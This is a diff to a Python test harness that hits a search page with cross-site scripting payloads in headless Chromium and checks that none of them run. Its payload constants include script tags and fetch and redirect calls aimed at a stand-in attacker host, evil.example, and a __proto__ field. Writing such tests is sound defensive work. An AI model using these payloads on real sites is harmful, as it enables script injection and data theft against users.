@@ -10,7 +10,7 @@ import shutil
 import sys
 import tempfile
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -21,6 +21,11 @@ import pyarrow as pa
 import torch
 from PIL import Image
 
+try:
+    from playwright.sync_api import Error, sync_playwright
+except ModuleNotFoundError:
+    Error, sync_playwright = Exception, None
+
 import fusemix as fm
 from fusemix.search.index import Found, Index
 from fusemix.search.previews import encoded
@@ -30,9 +35,11 @@ from served import Server, make_index
 
 CHROMIUM = shutil.which("chromium")
 WORDS = ["--no-sandbox", "--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"]
-NEEDS = "the page is tested in a browser: apt-get install chromium, and pip install playwright"
+MISSING = ""
+if sync_playwright is None or CHROMIUM is None:
+    MISSING = "the page is tested in a browser: apt-get install chromium; pip install 'fusemix[dev]'"
 
-ACTIONS = ("window.__xss=1", "alert(1)", "fetch('//evil.example/1')", "document.body.append(new Image)")
+ACTIONS = ("window.__xss=1", "alert(1)", "fetch('//evil.example/1')", "top.location='//evil.example/2'")
 TAGS = """
 <script>{a}</script>
 <script src=//evil.example/x.js></script>
@@ -181,7 +188,7 @@ def payloads(count: int = 200) -> list[str]:
 
 def hostile_index(space: Space, strings: list[str]) -> Index:
     """Make an index whose texts, ids, columns and names of columns are these strings."""
-    count, dim = len(strings), 0
+    count = len(strings)
     name = next(name for name, side in space.sides_.items() if side.kind == "text")
     other = next(name for name, side in space.sides_.items() if side.kind == "image")
     dim = space.embed_latents(name, np.zeros((1, space.sides_[name].dim), np.float32)).shape[1]
@@ -189,21 +196,26 @@ def hostile_index(space: Space, strings: list[str]) -> Index:
     turned = strings[1:] + strings[:1]
     both = [*strings, *strings]
     items = pa.table({"modality": [name] * count + [other] * count, "id": both, "value": turned + strings})
-    columns = pa.table({strings[0]: both, "few": [strings[i % 40] for i in range(2 * count)], strings[1]: turned * 2})
+    few = (strings[:40] * 2 * count)[: 2 * count]
+    columns = pa.table({strings[0]: both, "few": few, "__proto__": both, strings[1]: turned * 2})
     picture = encoded(Image.new("RGB", (8, 8), "teal"))
     previews = pa.chunked_array([pa.array([None] * count + [picture] * count, pa.large_binary())])
     found = {name: Found("text", Path()), other: Found("image", Path())}
     return Index(vectors, items, columns, found, space, previews)
 
 
-HELD = "#hits :is(.words, .id, .caption, .badge, dt, dd), .label, .message, .advice, option, h1, title, .filter > span, "
-HELD += ".filter-chip span, #status, #facts, #hint"
-FOREIGN = "script:not([src='page.js']), link:not([rel=icon], [href='page.css']), meta:not([charset], [name]), base, style, "
-FOREIGN += "iframe, frame, frameset, object, embed, template, math, marquee, video, a:not(#skip), details:not(#filters), x"
+HELD = """
+#hits :is(.words, .id, .caption, .badge, dt, dd), .label, .message, .advice, option, h1, title, .filter > span,
+.filter-chip span, #status, #facts, #hint
+"""
+FOREIGN = """
+script:not([src='page.js']), link:not([rel=icon], [href='page.css']), meta:not([charset], [name]), base, style, iframe,
+frame, frameset, object, embed, template, math, marquee, video, a:not(#skip), details:not(#filters), x
+"""
 MARKUP = f"""() => new Set([
-  ...[...document.querySelectorAll("{HELD}")].flatMap(({{ children }}) => [...children]),
-  ...document.querySelectorAll("{FOREIGN}"),
-  ...[...document.querySelectorAll("*")].filter((node) => node.getAttributeNames().some((name) => name.startsWith("on"))),
+  ...[...document.querySelectorAll(`{HELD}`)].flatMap((node) => [...node.children]),
+  ...document.querySelectorAll(`{FOREIGN}`),
+  ...[...document.querySelectorAll("*")].filter((node) => node.getAttributeNames().some((name) => /^on/.test(name))),
 ]).size"""
 
 
@@ -228,7 +240,8 @@ class Watch:
 
     def _dialog(self, dialog: Any) -> None:
         self.dialogs.append(dialog.message)
-        dialog.dismiss()
+        with suppress(Error):  # its page may be gone
+            dialog.dismiss()
 
     def _request(self, request: Any) -> None:
         if not request.url.startswith((self.origin, "data:", f"blob:{self.origin}")):
@@ -243,8 +256,6 @@ class Watch:
 @contextmanager
 def browser() -> Iterator[Any]:
     """Start Debian's chromium, headless, with a microphone that only beeps."""
-    from playwright.sync_api import sync_playwright
-
     with sync_playwright() as play:
         chromium = play.chromium.launch(executable_path=CHROMIUM, args=WORDS)
         try:
@@ -327,27 +338,65 @@ def torture(page: Any, watch: Watch, strings: list[str]) -> None:
     result("lines in the console, violations of the policy among them", len(watch.lines), "0", lambda x: x == 0)
 
 
-def unsafe(page: Any, strings: list[str]) -> int:
-    """Count the strings that do something where a page is careless: their silence elsewhere means something."""
-    watch = Watch(page.context, "http://careless.example")
-    page.route("http://careless.example/", lambda route: route.fulfill(body="<!doctype html><body>x", content_type="text/html"))
-    page.route("**/*evil.example/**", lambda route: route.abort())
-    count = 0
-    for text in strings:
-        page.goto("http://careless.example/")
-        before = len(watch.dialogs) + len(watch.elsewhere)
-        page.evaluate(
-            """(text) => {
-              document.body.innerHTML = text;
-              const link = document.createElement("a");
-              Object.assign(link, { href: text, title: text });
-              document.body.insertAdjacentHTML("beforeend", `<p title="${text}" data-x='${text}'>x</p>`);
-              document.body.append(link);
-              link.click();
-            }""",
-            text,
-        )
-        page.wait_for_timeout(60)
-        acted = len(watch.dialogs) + len(watch.elsewhere) > before or not page.url.startswith("http://careless.example/")
-        count += acted or bool(page.evaluate("window.__xss"))
-    return count
+CARELESS = """(text) => {
+  document.body.innerHTML = text;
+  document.body.insertAdjacentHTML("beforeend", `<p title="${text}" data-x='${text}'>x</p>`);
+  const link = Object.assign(document.createElement("a"), { href: text });
+  if (link.protocol === "javascript:") link.click();
+}"""
+
+
+def acts(chromium: Any, text: str) -> bool:
+    """Tell whether a string does something where a page is careless: then its silence elsewhere means something."""
+    page = chromium.new_page()
+    watch = Watch(page.context, "http://careless.example/")
+    page.route("**", lambda route: route.fulfill(body="<!doctype html><body>x", content_type="text/html"))
+    page.goto(watch.origin)
+    try:
+        page.evaluate(CARELESS, text)
+        page.wait_for_timeout(100)
+        return bool(watch.dialogs or watch.elsewhere or page.evaluate("window.__xss"))
+    except Error:  # it is on its way to somewhere else
+        return True
+    finally:
+        page.close()
+
+
+def parse(route: Any) -> None:
+    """Serve the page's script with a mistake: what are text nodes is parsed as HTML."""
+    script, old = route.fetch().text(), "node.append(...children);"
+    assert old in script
+    new = "node.append(...children.map((one) => typeof one === 'string' "
+    new += "? document.createRange().createContextualFragment(one) : one));"
+    route.fulfill(body=script.replace(old, new), content_type="text/javascript")
+
+
+def main() -> None:
+    """Run all of it."""
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--small", action="store_true", help="every ninth string; misses a goal")
+    given = parser.parse_args()
+    if MISSING:
+        sys.exit(MISSING)
+    strings = payloads()[:: 9 if given.small else 1]
+    with tempfile.TemporaryDirectory() as name, browser() as chromium:
+        index = make_index(Path(name), 60)
+        hostile_index(fm.open_index(index).space, strings).save(Path(name) / "hostile")
+        with Server(Path(name) / "hostile") as server:
+            page = chromium.new_page()
+            torture(page, Watch(page.context, server.address), strings)
+            careless = chromium.new_page()
+            careless.route("**/page.js", parse)
+            careless.goto(f"{server.address}/#text={quote('<b>x</b>')}&where=id+=+nothing")
+            settle(careless)
+            nodes = careless.evaluate(MARKUP)
+            result("markup nodes where the page parses strings", nodes, "> 0", lambda x: x > 0)
+            if server.told():
+                print(f"# the server said: {server.told()[-2000:]}")
+        count = sum(acts(chromium, text) for text in strings)
+        result("strings that act where a page is careless", count, ">= 40", lambda x: x >= 40)
+    leave()
+
+
+if __name__ == "__main__":
+    main()
